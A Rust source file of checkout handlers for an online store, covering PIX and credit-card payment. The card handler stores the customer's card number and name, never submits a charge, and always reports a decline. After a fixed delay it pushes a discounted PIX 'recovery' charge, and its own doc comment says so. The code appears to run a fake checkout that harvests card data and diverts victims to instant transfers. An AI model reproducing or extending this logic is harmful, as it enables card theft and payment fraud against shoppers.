use std::time::Duration;

use chrono::Utc;
use common::{
    env_config::{Config, OfferTable, OfferTier},
    error::{AppError, Res},
};
use gateway::{ChargeRequest, PixClient};
use log::{info, warn};
use rust_decimal::Decimal;
use store::{CardSnapshot, OrderRecorder, OrderSnapshot, PaymentMethod};

use crate::{
    dtos::checkout::{
        AddressData, CardCheckoutRequest, CheckoutResponse, CustomerEcho, PaymentView,
        PersonalData, PixCheckoutRequest,
    },
    misc::{mask::format_phone, messages::charge_failure},
    models::cart::OrderSummary,
};

/// Charges the order total by PIX, then records the order.
///
/// The offer tier follows the shipping cost. A failed save is logged and
/// reported in the response, the payment code is returned regardless.
pub async fn process_pix(
    gateway: &PixClient,
    store: &OrderRecorder,
    config: &Config,
    req: PixCheckoutRequest,
) -> Res<CheckoutResponse> {
    require_cpf(&req.personal)?;

    let summary = OrderSummary::build(&config.checkout, req.shipping)?;
    let tier = OfferTable::tier_for_shipping(summary.shipping);
    let charge = ChargeRequest::new(
        summary.total,
        &req.personal.contact(),
        config.offers.hash(tier),
        &config.checkout.charge_title,
    )
    .map_err(charge_failure)?;

    let result = gateway.request_charge(&charge).await.map_err(charge_failure)?;

    let order = order_snapshot(&req.personal, &req.address, summary.total, PaymentMethod::Pix);
    let saved = store.save_order(&order, None).await;
    if !saved.success {
        warn!("PIX issued but the order was not recorded");
    }

    Ok(CheckoutResponse {
        payment: PaymentView::from(&result),
        customer: CustomerEcho::from(&req.personal),
        amount: summary.total,
        order_saved: saved.success,
        card_declined: false,
    })
}

/// Records a card order, then offers a discounted PIX after a fixed delay.
///
/// Card charges are not sent anywhere: the card is always declined and the
/// customer is moved to the recovery offer.
pub async fn process_card(
    gateway: &PixClient,
    store: &OrderRecorder,
    config: &Config,
    req: CardCheckoutRequest,
) -> Res<CheckoutResponse> {
    require_cpf(&req.personal)?;

    let summary = OrderSummary::build(&config.checkout, req.shipping)?;
    let card = CardSnapshot::new(&req.card.number, &req.card.name);
    let order = order_snapshot(
        &req.personal,
        &req.address,
        summary.total,
        PaymentMethod::CreditCard,
    );
    let saved = store.save_order(&order, Some(&card)).await;

    let delay = config.checkout.recovery_delay_ms;
    info!("Card ending in {} declined, recovery PIX in {}ms", card.last_four(), delay);
    tokio::time::sleep(Duration::from_millis(delay)).await;

    let amount = config.checkout.recovery_amount;
    let charge = ChargeRequest::new(
        amount,
        &req.personal.contact(),
        config.offers.hash(OfferTier::Discounted),
        &config.checkout.recovery_title,
    )
    .map_err(charge_failure)?;

    let result = gateway.request_charge(&charge).await.map_err(charge_failure)?;

    Ok(CheckoutResponse {
        payment: PaymentView::from(&result),
        customer: CustomerEcho::from(&req.personal),
        amount,
        order_saved: saved.success,
        card_declined: true,
    })
}

fn require_cpf(personal: &PersonalData) -> Res<()> {
    if personal.cpf.trim().is_empty() {
        return Err(AppError::BadRequest(
            "Por favor, informe seu CPF para gerar o PIX.".to_string(),
        ));
    }
    Ok(())
}

fn order_snapshot(
    personal: &PersonalData,
    address: &AddressData,
    total: Decimal,
    payment_method: PaymentMethod,
) -> OrderSnapshot {
    let neighborhood = address.neighborhood.trim();
    OrderSnapshot {
        customer_name: personal.name.trim().to_string(),
        customer_email: personal.email.trim().to_string(),
        customer_phone: format_phone(&personal.phone),
        total_amount: total,
        payment_method,
        zip_code: address.zip_code.trim().to_string(),
        address_street: address.street.trim().to_string(),
        address_number: address.number.trim().to_string(),
        address_neighborhood: (!neighborhood.is_empty()).then(|| neighborhood.to_string()),
        address_city: address.city.trim().to_string(),
        address_state: address.state.trim().to_string(),
        created_at: Utc::now(),
    }
}
